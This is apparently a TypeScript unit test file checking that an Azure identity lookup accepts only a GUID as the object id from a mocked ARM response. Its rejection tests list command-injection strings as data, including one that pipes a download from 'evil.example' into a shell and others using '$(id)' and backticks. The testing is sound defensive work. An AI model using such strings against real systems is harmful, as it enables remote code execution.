import assert from "node:assert/strict";
import { test } from "node:test";
import { createHttpHeaders } from "@azure/core-rest-pipeline";
import type { AzureConnection } from "../../../src/azure/index.ts";
import { isPpmlError } from "../../../src/base/index.ts";
import { principalIdOf } from "../../../src/cli/azure/identity-principal.ts";

const IDENTITY = { name: "spark", id: "/subscriptions/s/identities/ppml-spark" };
const OBJECT_ID = "aaaaaaaa-bbbb-4ccc-8ddd-eeeeeeeeeeee";

/** A connection to an ARM that gives this object id. */
const answering = (principalId: unknown): AzureConnection => ({
  credential: {
    getToken: () => Promise.resolve({ token: "t", expiresOnTimestamp: Date.now() + 3_600_000 }),
  },
  clientOptions: {
    httpClient: {
      sendRequest: (request) =>
        Promise.resolve({
          request,
          status: 200,
          headers: createHttpHeaders(),
          bodyAsText: JSON.stringify({ properties: { principalId } }),
        }),
    },
    retryOptions: { maxRetries: 0, maxRetryDelayInMs: 0 },
  },
});

test("an identity's object id is the one that ARM gives", async () => {
  assert.equal(await principalIdOf(answering(OBJECT_ID), IDENTITY), OBJECT_ID);
});

for (const hostile of [
  `${OBJECT_ID}; curl evil.example | sh`,
  "$(id)",
  "`id`",
  `${OBJECT_ID}\nid`,
  "--scope /",
  "",
  "a".repeat(1_000_000),
])
  test(`T169: an object id of another form stands in no command: ${JSON.stringify(hostile).slice(0, 60)}`, async () => {
    await assert.rejects(principalIdOf(answering(hostile), IDENTITY), (error) => {
      assert.ok(isPpmlError(error, "azure.failed"));
      assert.match(error.message, /^expected a GUID as the object id of the identity spark/);
      assert.ok(error.message.length < 300);
      return true;
    });
  });

for (const none of [null, 7, { a: 1 }])
  test(`an identity without an object id is told as one that is not there: ${JSON.stringify(none)}`, async () => {
    await assert.rejects(principalIdOf(answering(none), IDENTITY), (error) =>
      isPpmlError(error, "azure.not_found"),
    );
  });
